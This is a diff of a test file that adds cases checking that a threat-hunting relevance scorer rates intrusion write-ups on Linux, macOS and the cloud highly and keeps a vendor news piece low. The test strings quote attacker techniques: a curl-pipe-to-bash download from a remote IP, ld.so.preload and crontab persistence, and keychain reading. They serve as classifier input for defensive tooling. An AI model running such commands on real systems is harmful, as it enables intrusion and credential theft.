@@ -130,6 +130,35 @@ and created a scheduled task; later certutil pulled the payload. Register now fo
     expect(marketing.score).toBe(0);
   });
 
+  it('scores intrusions on Linux, macOS, cloud control planes and detection queries as it scores Windows ones', () => {
+    const linux = scoreHunt(
+      'The miner was fetched with curl -fsSL http://203.0.113.9/i.sh | bash, copied to /dev/shm/.x, pinned with chattr +i, ' +
+        'listed in /etc/ld.so.preload and restarted every minute from /etc/crontab; the operator ran history -c before leaving.',
+    );
+    const macos = scoreHunt(
+      'The fake installer ran osascript to ask for the password, removed com.apple.quarantine with xattr -d and wrote ' +
+        '~/Library/LaunchAgents/com.update.plist, loaded with launchctl load; security find-generic-password read the keychain.',
+    );
+    const cloud = scoreHunt(
+      'CloudTrail showed GetCallerIdentity from 198.51.100.4, then CreateAccessKey and AttachUserPolicy for a new user; the ' +
+        'eventName and sourceIPAddress fields tie each call to the stolen key. aws sts get-caller-identity was the first command.',
+    );
+    const queries = scoreHunt(
+      'Hunt with EQL: process where event.action == "exec" and process.name == "bash" and process.args : "-i", or in ' +
+        'osquery, and for Entra ID use SigninLogs joined to AuditLogs on the UserPrincipalName.',
+    );
+    for (const [platform, result] of Object.entries({ linux, macos, cloud, queries }))
+      expect({ platform, above: result.score > 60 }).toEqual({ platform, above: true });
+  });
+
+  it('keeps a news piece that names cloud products and platforms in passing low', () => {
+    const news = scoreHunt(
+      'At the conference keynote the vendor said CloudTrail, Kubernetes and Linux containers are where customers need ' +
+        'visibility, and announced a partnership and a free trial of its platform for macOS fleets.',
+    );
+    expect(news.score).toBeLessThan(20);
+  });
+
   it('rejects a malformed registry with a clear message', () => {
     expect(() => parseHuntKeywordRegistry({ tiers: { perfect: { max: 75, terms: [] } } })).toThrow('tier "good"');
     expect(() => parseHuntKeywordRegistry({ tiers: { ...tiny, good: { max: 5, terms: [''] } } })).toThrow('non-empty');
